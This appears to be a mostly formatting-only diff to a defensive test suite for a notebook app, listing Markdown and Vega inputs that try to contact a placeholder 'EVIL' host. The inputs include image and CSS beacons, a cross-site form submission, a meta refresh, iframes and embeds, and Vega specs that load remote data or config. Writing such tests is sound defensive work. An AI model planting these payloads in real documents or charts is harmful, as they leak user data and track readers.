@@ -12,24 +12,33 @@ const markdown = (name: string, html: string, extra: Partial<HostileCase> = {}):
   weaken: "markdown",
   ...extra,
 });
-const clickIfThere = (text: string) => async ({ page }: CaseContext) => {
-  const target = page.locator(".prose", { hasText: text }).getByText(text, { exact: true });
-  if ((await target.count()) > 0) await target.first().click({ timeout: 3_000 }).catch(() => undefined);
-  await page.waitForTimeout(1500);
-};
+const clickIfThere =
+  (text: string) =>
+  async ({ page }: CaseContext) => {
+    const target = page.locator(".prose", { hasText: text }).getByText(text, { exact: true });
+    if ((await target.count()) > 0)
+      await target
+        .first()
+        .click({ timeout: 3_000 })
+        .catch(() => undefined);
+    await page.waitForTimeout(1500);
+  };
 const chartTime = async ({ page }: CaseContext) => page.waitForTimeout(1500);
 
 /** The Markdown, Vega, link and trust-gate cases. */
 export const pageCases: HostileCase[] = [
-  markdown("images, srcset, poster, prefetch and CSS backgrounds",
+  markdown(
+    "images, srcset, poster, prefetch and CSS backgrounds",
     [
       "![pixel](http://EVIL/md.png)",
       "",
       '<img src="http://EVIL/raw.png"> <img srcset="http://EVIL/set.png 1x">',
       '<video poster="http://EVIL/poster.png"></video>',
       '<link rel="prefetch" href="http://EVIL/prefetch"> <div style="background:url(http://EVIL/bg.png)">bg</div>',
-    ].join("\n")),
-  markdown("a form posting to another site",
+    ].join("\n"),
+  ),
+  markdown(
+    "a form posting to another site",
     '<form action="http://EVIL/f" method="get"><input name="c" value="x"><button type="submit">Send it</button></form>',
     {
       // The user sends the form (a click on a Markdown cell opens its editor, which takes the form away first).
@@ -37,13 +46,16 @@ export const pageCases: HostileCase[] = [
         await page.evaluate(() => document.querySelector<HTMLFormElement>(".prose form")?.requestSubmit());
         await page.waitForTimeout(1500);
       },
-    }),
+    },
+  ),
   markdown("a meta refresh", '<meta http-equiv="refresh" content="0;url=http://EVIL/r">\n\nText.', {
     action: chartTime,
   }),
-  markdown("iframes, objects and embeds",
+  markdown(
+    "iframes, objects and embeds",
     '<iframe src="http://EVIL/if"></iframe> <object data="http://EVIL/obj"></object> <embed src="http://EVIL/emb">',
-    { action: chartTime }),
+    { action: chartTime },
+  ),
   {
     name: "Markdown: an external link the user does not confirm",
     notebook: notebook([counter, "[Read more](http://EVIL/more)"]),
@@ -54,12 +66,16 @@ export const pageCases: HostileCase[] = [
     name: "Vega: an image mark and a lookup with data URLs",
     notebook: notebook([
       rows,
-      cell("chart pic data=rows",
-        '{"mark":"image","encoding":{"x":{"field":"id","type":"quantitative"},"url":{"value":"http://EVIL/img.png"}}}'),
-      cell("chart looked_up data=rows",
+      cell(
+        "chart pic data=rows",
+        '{"mark":"image","encoding":{"x":{"field":"id","type":"quantitative"},"url":{"value":"http://EVIL/img.png"}}}',
+      ),
+      cell(
+        "chart looked_up data=rows",
         '{"mark":"point",' +
           '"transform":[{"lookup":"id","from":{"data":{"url":"http://EVIL/l.csv"},"key":"a","fields":["b"]}}],' +
-          '"encoding":{"x":{"field":"id","type":"quantitative"}}}'),
+          '"encoding":{"x":{"field":"id","type":"quantitative"}}}',
+      ),
     ]),
     action: chartTime,
     weaken: "vega",
@@ -68,10 +84,12 @@ export const pageCases: HostileCase[] = [
     name: "Vega: usermeta embedOptions loading config and patch from another site",
     notebook: notebook([
       rows,
-      cell("chart meta data=rows",
+      cell(
+        "chart meta data=rows",
         '{"usermeta":{"embedOptions":' +
           '{"config":"http://EVIL/config.json","patch":"http://EVIL/patch.json","actions":true}},' +
-          '"mark":"point","encoding":{"x":{"field":"id","type":"quantitative"}}}'),
+          '"mark":"point","encoding":{"x":{"field":"id","type":"quantitative"}}}',
+      ),
     ]),
     action: chartTime,
     weaken: "vega",
@@ -80,9 +98,11 @@ export const pageCases: HostileCase[] = [
     name: "Vega: a ts cell returning a spec with a data URL",
     data: "none",
     notebook: notebook([
-      cell("ts spec",
+      cell(
+        "ts spec",
         "return { $schema: 'https://vega.github.io/schema/vega-lite/v6.json', data: { url: 'http://EVIL/t.csv' },",
-        "  mark: 'point', encoding: { x: { field: 'a', type: 'quantitative' } } };"),
+        "  mark: 'point', encoding: { x: { field: 'a', type: 'quantitative' } } };",
+      ),
     ]),
     action: chartTime,
     weaken: "vega",
